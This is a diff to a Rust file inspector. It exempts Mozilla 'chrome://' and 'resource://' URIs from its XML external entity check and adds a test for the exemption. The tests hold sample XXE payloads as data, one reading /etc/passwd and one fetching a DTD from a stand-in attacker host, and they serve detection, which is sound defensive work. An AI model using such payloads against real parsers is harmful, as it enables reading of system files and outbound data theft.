@@ -28,12 +28,17 @@ pub fn inspect(data: &[u8], report: &mut dyn Report) {
 }
 
 /// Facts about the document type alone; SVG and parts of Office files share them.
+/// Parts of Mozilla's programs that their extensions name.
+fn is_browsers_own(target: &str) -> bool {
+    target.starts_with("chrome://") || target.starts_with("resource://")
+}
+
 pub fn doctype(text: &str, report: &mut dyn Report) {
     let Some(Token::Doctype(doctype)) = tokens(text).take(64).find(|token| matches!(token, Token::Doctype(_))) else {
         return;
     };
     let entities = entities(doctype);
-    if let Some(external) = entities.iter().find(|entity| entity.external) {
+    if let Some(external) = entities.iter().find(|entity| entity.external && !is_browsers_own(&entity.value)) {
         report.fact("files/xml-external-entity", cut(&external.value, 120));
     }
     let size = expanded(&entities).max(repeated(text, &entities));
@@ -237,6 +242,7 @@ mod tests {
         check("<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>", &["files/xml-external-entity"]);
         check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;]><l/>", &["files/xml-external-entity"]);
         check("<!DOCTYPE l SYSTEM \"http://www.w3.org/x.dtd\"><l/>", &[]);
+        check("<!DOCTYPE l [<!ENTITY % x SYSTEM 'chrome://a/b.dtd'>%x;]><l/>", &[]);
         check("<!DOCTYPE l [<!ENTITY pic SYSTEM \"a.gif\" NDATA gif>]><l/>", &[]);
     }
 
